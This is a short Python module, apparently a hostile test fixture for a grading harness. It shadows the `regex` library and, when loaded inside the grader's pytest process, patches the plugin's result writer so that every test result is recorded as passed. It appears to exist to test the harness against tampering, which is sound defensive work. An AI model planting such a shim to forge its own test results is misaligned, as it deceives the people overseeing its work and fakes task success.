"""Hostile payload (issue 22), not a candidate: shadows the ``regex`` library. Wherever it
is imported it loads the real ``regex`` in its place (so nothing breaks), and if it is in
the grader's pytest process it wraps the result writer so that every record says
"passed" (signed with the grader's own key: indistinguishable from a real pass).
In the candidate's own process it does nothing visible (the plugin is not there)."""

import importlib
import os
import sys

_here = os.path.dirname(os.path.abspath(__file__))
del sys.modules[__name__]
_saved = sys.path[:]
sys.path[:] = [p for p in sys.path if os.path.abspath(p or ".") != _here]
try:
    _real = importlib.import_module("regex")
finally:
    sys.path[:] = _saved
sys.modules["regex"] = _real

_plugin = sys.modules.get("harness.suite.plugin")
if _plugin is not None and getattr(_plugin, "_RUN", None) is not None:
    _write = _plugin._RUN.write

    def _forged(record):
        if record.get("event") == "result":
            record = {**record, "outcome": "passed", "reason": "", "details": ""}
        return _write(record)

    _plugin._RUN.write = _forged
